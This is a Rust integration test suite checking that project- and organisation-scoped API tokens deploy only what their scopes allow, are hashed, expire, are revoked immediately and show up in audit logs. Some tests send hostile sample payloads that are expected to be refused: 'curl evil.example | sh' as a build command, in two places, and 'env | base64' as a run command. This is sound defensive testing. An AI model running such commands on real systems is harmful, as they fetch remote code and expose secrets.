//! API tokens end to end: a token scoped to one project and to
//! project.deploy deploys that project through REST, is refused for
//! another project and for anything else, and is refused at once when
//! revoked. Only its hash is kept; its value is never shown again.

#![expect(clippy::unwrap_used, reason = "tests fail loudly")]

mod common;

use capsule::{config::ServiceKind, proto::auth::v1 as pb};
use common::{TestMesh, authed};
use diesel::{QueryableByName, RunQueryDsl, sql_types::BigInt};
use reqwest::{Method, StatusCode};
use tonic::Code;

async fn rest(
    mesh: &TestMesh,
    method: Method,
    path: &str,
    token: &str,
    body: serde_json::Value,
) -> (StatusCode, String) {
    let mut request = reqwest::Client::new()
        .request(method, format!("http://{}{path}", mesh.http))
        .bearer_auth(token);
    if !body.is_null() {
        request = request.json(&body);
    }
    let response = request.send().await.unwrap();
    (response.status(), response.text().await.unwrap())
}

fn create(name: &str, scopes: &[&str], project_id: &str, days: i32) -> pb::CreateApiTokenRequest {
    pb::CreateApiTokenRequest {
        name: name.to_owned(),
        scopes: scopes.iter().map(|scope| (*scope).to_owned()).collect(),
        project_id: project_id.to_owned(),
        expire_days: days,
    }
}

async fn deploy_over_grpc(
    mesh: &TestMesh,
    token: &str,
    project_id: &str,
) -> Result<tonic::Response<capsule::proto::deploy::v1::Deployment>, tonic::Status> {
    let request = capsule::proto::deploy::v1::CreateDeploymentRequest {
        project_id: project_id.to_owned(),
        ..Default::default()
    };
    mesh.deploys().await.create_deployment(authed(request, token)).await
}

#[derive(QueryableByName)]
struct Count {
    #[diesel(sql_type = BigInt)]
    n: i64,
}

#[tokio::test]
async fn a_project_scoped_deploy_token_deploys_that_project_and_nothing_else() {
    let mesh = common::start().await;
    let (owner, _) = mesh.user("ci-owner@example.com").await;
    let target = common::deploy::project(&mesh, &owner, "true", &[]).await;
    let other = common::deploy::project(&mesh, &owner, "true", &[]).await;
    let mut auth = mesh.auth().await;

    let created = auth
        .create_api_token(authed(create("CI deploys", &["project.deploy"], &target, 30), &owner))
        .await
        .unwrap()
        .into_inner();
    let token = created.token.clone();
    assert!(token.starts_with("capsule_pat_"), "{token}");
    let id = created.api_token.unwrap().id;
    // Stored as its hash only.
    let mut conn = mesh.database(ServiceKind::Auth).connect();
    let stored: Count = diesel::sql_query("SELECT count(*) AS n FROM api_tokens WHERE token_hash = sha256($1::bytea)")
        .bind::<diesel::sql_types::Bytea, _>(token.as_bytes())
        .get_result(&mut conn)
        .unwrap();
    assert_eq!(stored.n, 1);
    let listed = auth
        .list_api_tokens(authed(pb::ListApiTokensRequest {}, &owner))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(listed.api_tokens.len(), 1);
    assert!(listed.api_tokens[0].last_use_time.is_none());
    assert!(!format!("{listed:?}").contains(&token));

    // Deploys its project through REST...
    let (status, body) = rest(
        &mesh,
        Method::POST,
        &format!("/v1/projects/{target}/deployments"),
        &token,
        serde_json::json!({}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    // ...and over gRPC.
    let deployed = deploy_over_grpc(&mesh, &token, &target).await;
    assert!(deployed.is_ok(), "{deployed:?}");
    // Another project of the same user: as if it did not exist.
    let (status, body) = rest(
        &mesh,
        Method::POST,
        &format!("/v1/projects/{other}/deployments"),
        &token,
        serde_json::json!({}),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
    // Anything its scopes do not name: settings, reading, the account.
    let (status, body) = rest(
        &mesh,
        Method::PATCH,
        &format!("/v1/projects/{target}/settings?updateMask=buildCommand"),
        &token,
        serde_json::json!({"buildCommand": "curl evil.example | sh"}),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(body.contains("project.settings.write"), "{body}");
    // Deploying is not running a command that sees the project's secrets.
    let (status, body) = rest(
        &mesh,
        Method::POST,
        &format!("/v1/projects/{target}/runs"),
        &token,
        serde_json::json!({"command": "env | base64"}),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(body.contains("project.run"), "{body}");
    let (status, _) = rest(
        &mesh,
        Method::GET,
        &format!("/v1/projects/{target}"),
        &token,
        serde_json::json!(null),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let mint = auth
        .create_api_token(authed(create("escalate", &["project.secrets.write"], "", 1), &token))
        .await
        .unwrap_err();
    assert_eq!(mint.code(), Code::PermissionDenied, "{mint:?}");
    assert_eq!(
        code_of(auth.get_me(authed(pb::GetMeRequest {}, &token)).await),
        Code::PermissionDenied
    );

    // Its use is recorded.
    let listed = auth
        .list_api_tokens(authed(pb::ListApiTokensRequest {}, &owner))
        .await
        .unwrap()
        .into_inner();
    assert!(listed.api_tokens[0].last_use_time.is_some());

    // Revoked: refused at once, by every service.
    auth.revoke_api_token(authed(pb::RevokeApiTokenRequest { api_token_id: id }, &owner))
        .await
        .unwrap();
    let (status, body) = rest(
        &mesh,
        Method::POST,
        &format!("/v1/projects/{target}/deployments"),
        &token,
        serde_json::json!({}),
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");
    let refused = deploy_over_grpc(&mesh, &token, &target).await.unwrap_err();
    assert_eq!(refused.code(), Code::Unauthenticated);
    mesh.stop().await;
}

fn code_of<T>(result: Result<tonic::Response<T>, tonic::Status>) -> Code {
    result.err().map_or(Code::Ok, |status| status.code())
}

#[tokio::test]
async fn a_token_must_be_scoped_and_expire_within_a_year() {
    let mesh = common::start().await;
    let (owner, _) = mesh.user("careful@example.com").await;
    let mut auth = mesh.auth().await;
    for (request, field) in [
        (create("none", &[], "", 1), "scopes"),
        (create("unknown", &["project.everything"], "", 1), "scopes[0]"),
        (create("forever", &["project.read"], "", 400), "expire_days"),
        (create("past", &["project.read"], "", -1), "expire_days"),
        (create("unset", &["project.read"], "", 0), "expire_days"),
    ] {
        let refused = auth.create_api_token(authed(request, &owner)).await.unwrap_err();
        assert_eq!(refused.code(), Code::InvalidArgument, "{field}: {refused:?}");
        assert!(
            common::violated_fields(&refused).iter().any(|f| f == field),
            "{field}: {:?}",
            common::violated_fields(&refused)
        );
    }
    mesh.stop().await;
}

/// An organisation with an owner and an admin, and one project of its own.
struct Team {
    owner: String,
    admin: String,
    admin_id: String,
    organization_id: String,
    project_id: String,
}

async fn team(mesh: &TestMesh) -> Team {
    let (owner, _) = mesh.user("team-owner@example.com").await;
    let (admin, admin_id) = mesh.user("team-admin@example.com").await;
    let organization_id = common::org::organization(mesh, &owner, "Acme").await;
    common::org::join(
        mesh,
        &owner,
        &organization_id,
        "team-admin@example.com",
        capsule::proto::project::v1::OrganizationRole::Admin,
        &admin,
    )
    .await;
    let project_id = common::org::project(mesh, &owner, &organization_id, "Shop").await;
    Team {
        owner,
        admin,
        admin_id,
        organization_id,
        project_id,
    }
}

#[tokio::test]
async fn an_organization_token_acts_as_the_organization_outlives_its_creator_and_any_admin_revokes_it() {
    use capsule::proto::{audit::v1 as audit_pb, project::v1 as project_pb};
    let mesh = common::start().await;
    let team = team(&mesh).await;
    let org = team.organization_id.clone();
    let personal = common::deploy::project(&mesh, &team.admin, "true", &[]).await;
    let mut projects = mesh.projects().await;
    let tokens_path = format!("/v1/organizations/{org}/apiTokens");

    // The admin creates one through REST: shown once, owned by the organisation.
    let (status, body) = rest(
        &mesh,
        Method::POST,
        &tokens_path,
        &team.admin,
        serde_json::json!({
            "name": "CI",
            "scopes": ["project.deploy", "project.read", "project.create", "project.transfer"],
            "expireDays": 30
        }),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let created: serde_json::Value = serde_json::from_str(&body).unwrap();
    let token = created["token"].as_str().unwrap().to_owned();
    let token_id = created["apiToken"]["id"].as_str().unwrap().to_owned();
    assert!(token.starts_with("capsule_pat_"), "{token}");
    assert_eq!(created["apiToken"]["organizationId"], org.as_str());
    assert_eq!(created["apiToken"]["creatorId"], team.admin_id.as_str());
    // Not in the admin's personal tokens.
    let personal_tokens = mesh
        .auth()
        .await
        .list_api_tokens(authed(pb::ListApiTokensRequest {}, &team.admin))
        .await
        .unwrap()
        .into_inner();
    assert!(personal_tokens.api_tokens.is_empty(), "{personal_tokens:?}");

    // What no organisation token may be, each refusal naming its field.
    let organization_token = |scopes: &[&str], project_id: &str, days: i32, bearer: &str| {
        authed(
            project_pb::CreateOrganizationApiTokenRequest {
                organization_id: org.clone(),
                name: "bad".to_owned(),
                scopes: scopes.iter().map(|scope| (*scope).to_owned()).collect(),
                project_id: project_id.to_owned(),
                expire_days: days,
            },
            bearer,
        )
    };
    for (request, field) in [
        (
            organization_token(&["project.read", "organization.members.write"], "", 1, &team.admin),
            "scopes[1]",
        ),
        (
            organization_token(&["project.deploy"], "", 0, &team.admin),
            "expire_days",
        ),
    ] {
        let refused = projects.create_organization_api_token(request).await.unwrap_err();
        assert_eq!(refused.code(), Code::InvalidArgument, "{field}: {refused:?}");
        assert!(
            common::violated_fields(&refused).iter().any(|f| f == field),
            "{field}: {refused:?}"
        );
    }
    // Bound to a project that is not the organisation's: none such.
    let refused = projects
        .create_organization_api_token(organization_token(&["project.deploy"], &personal, 1, &team.admin))
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Code::NotFound, "{refused:?}");
    assert!(refused.message().contains("project_id"), "{refused:?}");
    // A token does not make tokens; a stranger sees no organisation.
    let personal_token = mesh
        .auth()
        .await
        .create_api_token(authed(
            create("admin's", &["organization.members.write"], "", 1),
            &team.admin,
        ))
        .await
        .unwrap()
        .into_inner()
        .token;
    let refused = projects
        .create_organization_api_token(organization_token(&["project.deploy"], "", 1, &personal_token))
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied, "{refused:?}");
    let (stranger, _) = mesh.user("stranger@example.com").await;
    let refused = projects
        .create_organization_api_token(organization_token(&["project.deploy"], "", 1, &stranger))
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Code::NotFound, "{refused:?}");

    // It deploys the organisation's project through REST, and cancels over gRPC.
    let deploy_path = format!("/v1/projects/{}/deployments", team.project_id);
    let (status, body) = rest(&mesh, Method::POST, &deploy_path, &token, serde_json::json!({})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let deployment: serde_json::Value = serde_json::from_str(&body).unwrap();
    mesh.deploys()
        .await
        .cancel_deployment(authed(
            capsule::proto::deploy::v1::CancelDeploymentRequest {
                deployment_id: deployment["id"].as_str().unwrap().to_owned(),
            },
            &token,
        ))
        .await
        .unwrap();
    // It creates projects in the organisation, lists the organisation's
    // projects as its own, and has no personal account to move one into.
    let made = projects
        .create_project(authed(
            project_pb::CreateProjectRequest {
                project: Some(project_pb::Project {
                    name: "Preview".to_owned(),
                    ..Default::default()
                }),
            },
            &token,
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        (made.owner_id.as_str(), made.organization_id.as_str()),
        (org.as_str(), org.as_str())
    );
    let listed = projects
        .list_projects(authed(project_pb::ListProjectsRequest::default(), &token))
        .await
        .unwrap()
        .into_inner();
    let ids: Vec<&str> = listed.projects.iter().map(|project| project.id.as_str()).collect();
    assert_eq!(ids, [made.id.as_str(), team.project_id.as_str()]);
    let refused = projects
        .transfer_project(authed(
            project_pb::TransferProjectRequest {
                project_id: made.id.clone(),
                organization_id: String::new(),
            },
            &token,
        ))
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied, "{refused:?}");
    // Its creator's personal project does not exist for it; settings are beyond its scopes.
    let (status, body) = rest(
        &mesh,
        Method::POST,
        &format!("/v1/projects/{personal}/deployments"),
        &token,
        serde_json::json!({}),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
    let (status, body) = rest(
        &mesh,
        Method::PATCH,
        &format!("/v1/projects/{}/settings?updateMask=buildCommand", team.project_id),
        &token,
        serde_json::json!({"buildCommand": "curl evil.example | sh"}),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(body.contains("project.settings.write"), "{body}");

    // The admin leaves; the organisation's token stays.
    projects
        .remove_member(authed(
            project_pb::RemoveMemberRequest {
                organization_id: org.clone(),
                user_id: team.admin_id.clone(),
            },
            &team.owner,
        ))
        .await
        .unwrap();
    let (status, body) = rest(&mesh, Method::POST, &deploy_path, &token, serde_json::json!({})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    // The owner sees it used, and revokes it: refused at once.
    let (status, body) = rest(&mesh, Method::GET, &tokens_path, &team.owner, serde_json::json!(null)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let listed: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(listed["apiTokens"][0]["id"], token_id.as_str(), "{body}");
    assert!(listed["apiTokens"][0]["lastUseTime"].is_string(), "{body}");
    assert!(!body.contains(&token));
    let (status, body) = rest(
        &mesh,
        Method::DELETE,
        &format!("{tokens_path}/{token_id}"),
        &team.owner,
        serde_json::json!(null),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, body) = rest(&mesh, Method::POST, &deploy_path, &token, serde_json::json!({})).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");

    // The trail: the admin made it, the token (no person) deployed, the owner revoked it.
    let trail = projects
        .list_audit_events(authed(
            audit_pb::ListAuditEventsRequest {
                organization_id: org.clone(),
                ..Default::default()
            },
            &team.owner,
        ))
        .await
        .unwrap()
        .into_inner();
    let made = trail
        .events
        .iter()
        .find(|event| event.action == "api_token.create")
        .unwrap();
    assert_eq!(made.actor_id, team.admin_id);
    assert_eq!(made.target, format!("organizations/{org}/apiTokens/{token_id}"));
    assert!(trail.events.iter().any(|event| event.action == "api_token.revoke"));
    let deploys = mesh
        .deploys()
        .await
        .list_audit_events(authed(
            audit_pb::ListAuditEventsRequest {
                organization_id: org.clone(),
                ..Default::default()
            },
            &team.owner,
        ))
        .await
        .unwrap()
        .into_inner();
    let by_token: Vec<_> = deploys
        .events
        .iter()
        .filter(|event| event.action == "deployment.create")
        .collect();
    assert_eq!(by_token.len(), 2, "{deploys:?}");
    assert!(
        by_token
            .iter()
            .all(|event| event.actor_id.is_empty() && event.actor_token_id == token_id),
        "{by_token:?}"
    );
    mesh.stop().await;
}
